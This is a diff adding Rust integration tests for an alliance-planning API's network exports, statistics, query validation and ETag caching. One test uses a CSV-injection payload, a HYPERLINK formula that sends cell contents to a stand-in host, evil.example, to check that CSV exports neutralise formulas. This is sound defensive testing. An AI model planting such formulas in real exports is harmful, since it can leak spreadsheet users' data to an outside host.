@@ -677,3 +677,299 @@ async fn an_empty_export_still_has_its_header() {
         .json();
     assert!(json.is_empty());
 }
+
+/// A draft plan of the fixture's alliance with the given actions, proposed by the
+/// coordinator for the city: their ids, in order.
+async fn plan_with(
+    f: &agir_tests::fixture::AllianceFixture,
+    year: &str,
+    titles: &[&str],
+) -> (String, Vec<String>) {
+    let coordinator = &f.coordinator.client;
+    let alliance = f.alliance;
+    let plan = id(&post(
+        coordinator,
+        &format!("/api/v1/alliances/{alliance}/plans"),
+        json!({"academic_year": year}),
+    )
+    .await);
+    let mut actions = Vec::new();
+    for title in titles {
+        actions.push(id(&post(
+            coordinator,
+            &format!("/api/v1/alliances/{alliance}/plans/{plan}/actions"),
+            json!({"title": title, "theme": "food", "proposing_partner_id": f.city_partner}),
+        )
+        .await));
+    }
+    (plan, actions)
+}
+
+async fn transition(f: &agir_tests::fixture::AllianceFixture, plan: &str, to: &[&str]) {
+    for to in to {
+        post(
+            &f.coordinator.client,
+            &format!("/api/v1/alliances/{}/plans/{plan}/transition", f.alliance),
+            json!({"to": to}),
+        )
+        .await;
+    }
+}
+
+/// OWASP's CSV injection rule: a text cell a spreadsheet would run as a formula starts
+/// with `'` in CSV exports; numbers stay numbers; JSON exports are unchanged.
+#[actix_web::test]
+async fn csv_exports_neutralise_formulas_in_text_cells() {
+    let app = TestApp::spawn().await;
+    let f = app.alliance_fixture(1).await;
+    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"x")"#;
+    let (plan, actions) = plan_with(&f, "2025-2026", &[evil, "-Moins", "Compost"]).await;
+    transition(&f, &plan, &["consultation", "voting", "adopted"]).await;
+    post(
+        &f.coordinator.client,
+        &format!("/api/v1/alliances/{}/actions/{}/indicators", f.alliance, actions[0]),
+        json!({"catalogue": "food_collected_kg", "name": "@pesée", "target": 100}),
+    )
+    .await;
+
+    let csv_rows = async |resource: &str| -> Vec<csv::StringRecord> {
+        let response = app
+            .anonymous()
+            .get(&format!("/api/v1/network/exports/{resource}.csv"))
+            .send()
+            .await;
+        assert_eq!(response.status(), StatusCode::OK, "{resource}");
+        csv::Reader::from_reader(response.bytes())
+            .records()
+            .map(Result::unwrap)
+            .collect()
+    };
+    let titles: Vec<String> = csv_rows("actions")
+        .await
+        .iter()
+        .map(|r| r[6].to_owned())
+        .collect();
+    assert!(titles.contains(&format!("'{evil}")), "{titles:?}");
+    assert!(titles.contains(&"'-Moins".to_owned()), "{titles:?}");
+    assert!(titles.contains(&"Compost".to_owned()), "{titles:?}");
+    let indicators = csv_rows("indicators").await;
+    assert_eq!(indicators.len(), 1);
+    // action, name: text; target, total: numbers the server computed.
+    assert_eq!(&indicators[0][2], format!("'{evil}"));
+    assert_eq!(&indicators[0][8], "'@pesée");
+    assert_eq!(&indicators[0][10], "100");
+    assert_eq!(&indicators[0][11], "0");
+
+    let json: Vec<Value> = app
+        .anonymous()
+        .get("/api/v1/network/exports/actions.json")
+        .send()
+        .await
+        .json();
+    assert!(json.iter().any(|a| a["title"] == evil), "{json:?}");
+    assert!(json.iter().any(|a| a["title"] == "-Moins"), "{json:?}");
+}
+
+/// The indicators and actions exports and the statistics hold the actions the network
+/// search shows (adopted, running or completed, in adopted or closed plans): never a
+/// proposal or a rejected action, in a private plan or in a public one.
+#[actix_web::test]
+async fn exports_and_stats_hold_only_the_actions_the_network_shows() {
+    let app = TestApp::spawn().await;
+    let f = app.alliance_fixture(1).await;
+    let alliance = f.alliance;
+    let coordinator = &f.coordinator.client;
+    let (plan, actions) =
+        plan_with(&f, "2025-2026", &["Action retenue", "Projet refusé"]).await;
+    let (_draft, drafted) = plan_with(&f, "2026-2027", &["Idée en brouillon"]).await;
+    let (consulted, proposed) = plan_with(&f, "2027-2028", &["Idée en consultation"]).await;
+    transition(&f, &consulted, &["consultation"]).await;
+    for (action, value) in [
+        (&actions[0], 10),
+        (&actions[1], 1000),
+        (&drafted[0], 2000),
+        (&proposed[0], 4000),
+    ] {
+        let indicator = id(&post(
+            coordinator,
+            &format!("/api/v1/alliances/{alliance}/actions/{action}/indicators"),
+            json!({"catalogue": "food_collected_kg"}),
+        )
+        .await);
+        post(
+            coordinator,
+            &format!("/api/v1/alliances/{alliance}/indicators/{indicator}/measurements"),
+            json!({"value": value, "partner_id": f.city_partner}),
+        )
+        .await;
+    }
+    patch(
+        coordinator,
+        &format!("/api/v1/alliances/{alliance}/actions/{}", actions[1]),
+        json!({"status": "rejected"}),
+    )
+    .await;
+    transition(&f, &plan, &["consultation", "voting", "adopted"]).await;
+
+    let hidden = ["Projet refusé", "Idée en brouillon", "Idée en consultation"];
+    for resource in ["indicators", "actions"] {
+        for format in ["csv", "json"] {
+            let text = app
+                .anonymous()
+                .get(&format!("/api/v1/network/exports/{resource}.{format}"))
+                .send()
+                .await
+                .text();
+            assert!(text.contains("Action retenue"), "{resource}.{format}: {text}");
+            for title in hidden {
+                assert!(!text.contains(title), "{resource}.{format} shows {title}: {text}");
+            }
+        }
+    }
+    let stats: Value = app
+        .anonymous()
+        .get("/api/v1/network/stats")
+        .send()
+        .await
+        .json();
+    assert_eq!(
+        stats["actions"],
+        json!({"total": 1, "by_theme": {"food": 1}, "by_status": {"adopted": 1}})
+    );
+    assert_eq!(
+        stats["indicators"],
+        json!([{"catalogue": "food_collected_kg", "unit": "kg", "verified": 0.0, "unverified": 10.0, "measurements": 1}])
+    );
+}
+
+/// Fifty uncached statistics (fifty filters) at once: each is computed on one
+/// connection, a few at a time, and an ordinary request sent among them is answered.
+#[actix_web::test]
+async fn concurrent_uncached_stats_leave_ordinary_requests_answering() {
+    let app = TestApp::spawn().await;
+    two_cities(&app).await;
+    let anonymous = app.anonymous();
+    let paths: Vec<String> = (0..50)
+        .map(|i| {
+            format!(
+                "/api/v1/network/stats?academic_year={}-{}",
+                2000 + i,
+                2001 + i
+            )
+        })
+        .collect();
+    let mut requests: Vec<_> = paths.iter().map(|p| anonymous.get(p).send()).collect();
+    requests.insert(25, anonymous.get("/api/v1/alliances").send());
+    let responses = futures_util::future::join_all(requests).await;
+    assert_eq!(responses.len(), 51);
+    for response in &responses {
+        assert_eq!(response.status(), StatusCode::OK, "{}", response.text());
+    }
+    let alliances: Value = responses[25].json();
+    assert_eq!(alliances["items"].as_array().unwrap().len(), 2);
+}
+
+#[actix_web::test]
+async fn unknown_query_parameters_are_refused_on_every_network_endpoint() {
+    let app = TestApp::spawn().await;
+    two_cities(&app).await;
+    for path in [
+        "/api/v1/network/labels?x=1",
+        "/api/v1/network/stats?x=1",
+        "/api/v1/network/stats?region=Bretagne&x=2",
+        "/api/v1/network/actions?q=compost&x=1",
+        "/api/v1/network/exports/actions.csv?x=1",
+        "/api/v1/network/exports/labels.json?x=1",
+    ] {
+        let problem = app
+            .anonymous()
+            .get(path)
+            .send()
+            .await
+            .assert_problem(422, "validation_failed");
+        assert_eq!(problem.errors[0].field, "x", "{path}");
+        assert_eq!(problem.errors[0].code, "unknown_field", "{path}");
+    }
+    // The answer is named by its normalised filters, not by the raw query string.
+    let etag = async |path: &str| {
+        let response = app.anonymous().get(path).send().await;
+        assert_eq!(response.status(), StatusCode::OK, "{path}");
+        response.header("etag").unwrap()
+    };
+    assert_eq!(
+        etag("/api/v1/network/stats?region=Bretagne&academic_year=2025-2026").await,
+        etag("/api/v1/network/stats?academic_year=2025-2026&region=%20Bretagne%20").await
+    );
+    assert_ne!(
+        etag("/api/v1/network/stats?region=Bretagne").await,
+        etag("/api/v1/network/stats").await
+    );
+}
+
+/// A transaction that appended its journal entry before another write, but commits
+/// after it, still changes the network's version: the answer is never stale.
+#[actix_web::test]
+async fn a_write_that_commits_late_still_changes_the_network_etag() {
+    use agir_domain::ids::AllianceId;
+    use agir_persistence::journal::{self, Actor, NewEntry};
+    use diesel_async::{AsyncConnection, AsyncPgConnection, RunQueryDsl, TransactionManager};
+
+    let app = TestApp::spawn().await;
+    let network = two_cities(&app).await;
+    let stats = async || app.anonymous().get("/api/v1/network/stats").send().await;
+    assert_eq!(stats().await.json::<Value>()["partners"]["total"], 5);
+
+    // A partner of Rennes, written and journaled in a transaction left open.
+    let rennes: uuid::Uuid = network.rennes.parse().unwrap();
+    let partner = uuid::Uuid::now_v7();
+    let mut late = app.db.connect().await;
+    <AsyncPgConnection as AsyncConnection>::TransactionManager::begin_transaction(&mut late)
+        .await
+        .unwrap();
+    diesel::sql_query(
+        "INSERT INTO partners (id, alliance_id, name, kind, description, status, joined_on, created_at, updated_at)
+         VALUES ($1, $2, 'Rennes tardif', 'school', '', 'active', current_date, now(), now())",
+    )
+    .bind::<diesel::sql_types::Uuid, _>(partner)
+    .bind::<diesel::sql_types::Uuid, _>(rennes)
+    .execute(&mut late)
+    .await
+    .unwrap();
+    journal::append(
+        &mut late,
+        NewEntry {
+            alliance: Some(AllianceId(rennes)),
+            actor: Actor::system(),
+            verb: "partner.created",
+            subject_type: "partner",
+            subject_id: Some(partner),
+            summary: json!({"name": "Rennes tardif", "kind": "school"}),
+        },
+    )
+    .await
+    .unwrap();
+
+    // Meanwhile another write commits, and the network is read (and cached).
+    post(
+        &network.admin,
+        "/api/v1/cities",
+        json!({"name": "Brest", "insee_code": "29019", "department": "Finistère", "region": "Bretagne"}),
+    )
+    .await;
+    let before = stats().await;
+    assert_eq!(before.json::<Value>()["partners"]["total"], 5);
+    let etag = before.header("etag").unwrap();
+
+    <AsyncPgConnection as AsyncConnection>::TransactionManager::commit_transaction(&mut late)
+        .await
+        .unwrap();
+    let after = app
+        .anonymous()
+        .get("/api/v1/network/stats")
+        .header("if-none-match", &etag)
+        .send()
+        .await;
+    assert_eq!(after.status(), StatusCode::OK);
+    assert_ne!(after.header("etag").unwrap(), etag);
+    assert_eq!(after.json::<Value>()["partners"]["total"], 6);
+}
